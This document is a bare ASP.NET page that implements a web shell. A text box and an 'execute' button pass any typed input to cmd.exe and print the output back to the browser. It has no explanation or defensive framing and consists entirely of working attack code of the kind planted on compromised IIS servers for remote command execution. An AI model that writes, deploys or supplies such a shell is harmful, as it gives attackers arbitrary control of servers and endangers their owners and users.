<%@ Page Language="C#" Debug="true" Trace="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script Language="c#" runat="server">
void Page_Load(object sender, EventArgs e)
{
}
string RunIt(string arg)
{
    ProcessStartInfo si = new ProcessStartInfo();
    si.FileName = "cmd.exe";
    si.Arguments = "/c " + arg;
    si.RedirectStandardOutput = true;
    si.UseShellExecute = false;
    Process p = Process.Start(si);
    StreamReader rd = p.StandardOutput;
    string s = rd.ReadToEnd();
    rd.Close();
    return s;
}
void go_Click(object sender, System.EventArgs e)
{
    Response.Write("<pre>");
    Response.Write(Server.HtmlEncode(RunIt(txtArg.Text)));
    Response.Write("</pre>");
}
</script>
<HTML><BODY>
<form id="cmd" method="post" runat="server">
<asp:TextBox id="txtArg" style="Z-INDEX: 101" runat="server" Width="250px"></asp:TextBox>
<asp:Button id="go" runat="server" Text="execute" OnClick="go_Click"></asp:Button>
</form>
</BODY></HTML>
